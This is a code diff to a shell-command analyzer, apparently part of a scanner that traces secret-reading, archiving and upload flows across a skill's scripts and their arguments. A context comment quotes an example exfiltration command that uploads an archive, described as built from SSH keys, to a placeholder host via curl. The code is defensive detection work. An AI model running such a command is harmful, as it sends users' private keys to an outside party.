@@ -5,6 +5,7 @@
  * file, `curl -F f=@/tmp/b.tgz https://x` is one flow (read ssh-keys → archive → send). Text piped through a
  * decoder into a shell is decoded and lowered again, marked `decoded`.
  */
+import path from 'node:path';
 import { decodeBase64, decodeHex, isMostlyPrintable } from '../analyzers/decode.js';
 import { PAYLOAD_PLACEHOLDER } from '../analyzers/shell.js';
 import { classifyEnvName, classifyHost, classifySecretPath, classifyWriteLocation, credentialStoreOf, keyFolderOf, persistenceOf } from './classify.js';
@@ -163,6 +164,19 @@ function balancedParens(s: string): boolean {
   return depth === 0;
 }
 
+/**
+ * The target's own script a command runs, as the scope of its lowering names it (collect.ts lowers each file in the
+ * scope of its path): `{baseDir}/bin/snap.sh` from SKILL.md is `bin/snap.sh`; `"$(dirname "$0")/rotate.sh"` or
+ * `"$DIR/rotate.sh"` from `bin/snap.sh` is `bin/rotate.sh`. Undefined for anything else (an absolute path, a URL).
+ */
+function ownScriptOf(word: string, scope: string): string | undefined {
+  if (!/\.(?:sh|bash|zsh|py|rb|js|mjs|cjs|pl|ps1)$/i.test(word) || /:\/\//.test(word) || !/\.[\w]+$/.test(scope)) return undefined;
+  const fromRoot = /^\{baseDir\}\//.test(word);
+  const tail = word.replace(/^\{baseDir\}\//, '').replace(/^.*[)}]\//, '').replace(/^\$\w+\//, '').replace(/^\.\//, '');
+  if (!tail || tail.startsWith('/') || tail.startsWith('~') || tail.includes('$')) return undefined;
+  return fromRoot ? path.posix.normalize(tail) : path.posix.normalize(path.posix.join(path.posix.dirname(scope), tail));
+}
+
 /** Split at a separator outside quotes, $( ), backticks and braces. */
 export function splitTop(s: string, sep: RegExp): string[] {
   const out: string[] = [];
@@ -312,6 +326,8 @@ export function lowerShell(text: string, opts: ShellOptions): Effect[] {
       const env = literalVars.has(m[1]) ? undefined : classifyEnvName(m[1]);
       if (env && env !== 'host-identity') keys.push(`secret:${env}`);
     }
+    // a script's own arguments (`new="${1:-}"`, `"$@"`): what the script that ran it passed (argKeysOf)
+    if (w.includes('$')) for (const m of w.matchAll(/\$\{?([1-9@*])(?![0-9])/g)) keys.push(`arg:${m[1] === '*' ? '@' : m[1]}@${opts.scope}`);
     for (const p of expandEach(dataFileOf(w))) if (/[/~]|\.\w+$/.test(p) && !/:\/\//.test(p) && !/\s/.test(p)) keys.push(fileKey(p));
     return keys;
   };
@@ -711,9 +727,17 @@ export function lowerShell(text: string, opts: ShellOptions): Effect[] {
         if (target) effects.push({ ...b, kind: 'write', location: classifyWriteLocation(target), path: target, consumes: keysOf(target), produces: keysOf(target) });
       } else if (/^(?:\.\/|\/tmp\/|~\/|\$)/.test(cmd0) || (SHELLS.test(w0) && args[0] && !/^-/.test(args[0]) && /[/.]/.test(args[0]))) {
         // Running a file: linked to whatever produced it (a download, a decoded write).
-        const target = /^(?:\.\/|\/tmp\/|~\/|\$)/.test(cmd0) ? cmd0 : args[0];
+        const own = /^(?:\.\/|\/tmp\/|~\/|\$)/.test(cmd0);
+        const target = own ? cmd0 : args[0];
         const keys = keysOf(target);
         effects.push({ ...b, kind: 'exec', origin: 'computed', path: target, command: c.raw, consumes: keys });
+        // A script of the target's own run with arguments: what each argument carries is that script's $1, $2 …
+        const callee = ownScriptOf(target, opts.scope);
+        if (callee)
+          (own ? args : args.slice(1)).forEach((a, i) => {
+            const carried = keysOf(a);
+            if (carried.length) effects.push({ ...b, kind: 'collect', evidence: `passes ${a} to ${callee} as $${i + 1}`, consumes: carried, produces: [`arg:${i + 1}@${callee}`, `arg:@@${callee}`] });
+          });
       }
       if (hidden) effects.push({ ...b, kind: 'spawn-hidden', command: c.raw });
 
